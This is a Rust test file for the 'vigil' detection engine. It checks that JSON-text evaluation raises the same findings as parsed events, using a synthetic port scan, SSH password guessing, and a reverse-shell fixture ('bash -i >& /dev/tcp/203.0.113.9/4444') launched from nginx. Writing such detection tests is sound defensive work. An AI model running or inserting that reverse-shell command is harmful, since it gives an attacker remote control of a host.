//! An evaluator fed events as JSON text (`Evaluator::evaluate_json`, which reads only the
//! attributes the rules need and parses the whole document only for a finding's evidence)
//! raises exactly the findings it raises on the parsed events: detection rules, correlations
//! and the behaviour baseline, evidence included.

mod common;

use std::path::Path;

use serde_json::{Value, json};
use vigil_detect::{BaselineConfig, CorrelationLimits, Evaluator, RuleSet, finding_uid};
use vigil_ocsf::Event;
use vigil_ocsf::fieldmap::FieldMaps;

fn rules() -> RuleSet {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let mut dirs = vec![root.join("../../rules")];
    let sigma = root.join("../../../shared/sigma/rules/linux");
    if sigma.is_dir() {
        dirs.push(sigma);
    } else {
        println!(
            "SigmaHQ corpus not found at {}: Vigil's rules only",
            sigma.display()
        );
    }
    let maps = FieldMaps::builtin().expect("built-in field maps parse");
    RuleSet::load_dirs(&dirs, &maps).expect("readable rules").0
}

fn evaluator(set: &std::sync::Arc<RuleSet>) -> Evaluator {
    Evaluator::new(std::sync::Arc::clone(set), CorrelationLimits::default()).with_baseline(
        BaselineConfig {
            learning_ms: 5_000,
            ..BaselineConfig::default()
        },
    )
}

/// Everyday events, suspicious ones, a port scan and password guessing, on two hosts.
fn events() -> Vec<(&'static str, Event)> {
    let mut out: Vec<(&str, Event)> = common::realistic_events(3_000, 11)
        .into_iter()
        .enumerate()
        .map(|(i, e)| (if i % 3 == 0 { "h2" } else { "h1" }, e))
        .collect();
    let start = 1_700_000_100_000;
    for port in 0..40u16 {
        let scan = common::connection(
            ("203.0.113.7", 40_000 + port),
            ("10.0.0.5", 1 + port),
            true,
            start + i64::from(port) * 100,
        );
        out.push(("h1", scan));
    }
    for i in 0..12 {
        let failure = Event::from_value(json!({
            "class_uid": 3002, "activity_id": 1, "time": start + i * 1_000,
            "status": "Failure", "status_id": 2, "service": {"name": "sshd"},
            "user": {"name": "root"}, "src_endpoint": {"ip": "198.51.100.4"},
            "device": {"hostname": "web-1", "uid": "h1"}}))
        .expect("valid event");
        out.push(("h1", failure));
    }
    out
}

#[test]
fn json_text_raises_the_findings_of_the_parsed_event() {
    let set = std::sync::Arc::new(rules());
    let (mut parsed, mut text) = (evaluator(&set), evaluator(&set));
    let (mut a, mut b) = (Vec::new(), Vec::new());
    for (host, event) in events() {
        parsed.evaluate(host, &event, 42, |_| true, &mut a);
        text.evaluate_json(host, &event.to_json(), 42, |_| true, &mut b)
            .expect("an event's JSON reads back");
    }
    let category = |f: &Value| f["finding_info"]["analytic"]["category"].clone();
    let a: Vec<Value> = a.iter().map(|f| serde_json::to_value(f).unwrap()).collect();
    let b: Vec<Value> = b.iter().map(|f| serde_json::to_value(f).unwrap()).collect();
    assert_eq!(a.len(), b.len());
    for (x, y) in a.iter().zip(&b) {
        assert_eq!(x, y);
    }
    // Every kind of finding took part, with its evidence.
    let baseline = a.iter().filter(|f| category(f) == "baseline").count();
    let correlated = a
        .iter()
        .filter(|f| f["finding_info"]["related_events_count"].as_u64() > Some(1))
        .count();
    let with_process = a
        .iter()
        .filter(|f| f["evidences"][0]["process"]["cmd_line"].is_string())
        .count();
    assert!(baseline > 0, "no baseline finding");
    assert!(correlated >= 2, "port scan and brute force: {correlated}");
    assert!(with_process > 0, "no rule finding with process evidence");
}

#[test]
fn a_document_without_an_id_gets_one_and_its_finding_names_it() {
    let set = std::sync::Arc::new(rules());
    let mut ev = evaluator(&set);
    let doc = br#"{"class_uid": 1007, "activity_id": 1, "time": 1,
        "process": {"file": {"path": "/bin/bash"}, "cmd_line": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"},
        "actor": {"process": {"file": {"path": "/usr/sbin/nginx"}}}}"#;
    let mut out = Vec::new();
    ev.evaluate_json("h", doc, 1, |_| true, &mut out).unwrap();
    let rule = out
        .iter()
        .find(|f| f.finding_info.analytic.category != "baseline")
        .expect("the reverse shell is found");
    let related = &rule.finding_info.related_events[0].uid;
    assert!(!related.is_empty());
    assert_eq!(
        rule.finding_info.uid,
        finding_uid(&rule.finding_info.analytic.uid, related)
    );
    let evidence = rule.evidences[0]
        .process
        .as_ref()
        .expect("process evidence");
    assert_eq!(evidence["file"]["path"], "/bin/bash");
}

#[test]
fn text_that_is_not_an_event_is_refused() {
    let set = std::sync::Arc::new(rules());
    let mut ev = evaluator(&set);
    let mut out = Vec::new();
    for bad in [
        &b"{"[..],
        b"[]",
        br#"{"time": 1}"#,
        br#"{"class_uid": 1, "time": 1} x"#,
    ] {
        assert!(ev.evaluate_json("h", bad, 1, |_| true, &mut out).is_err());
    }
    assert!(out.is_empty());
}
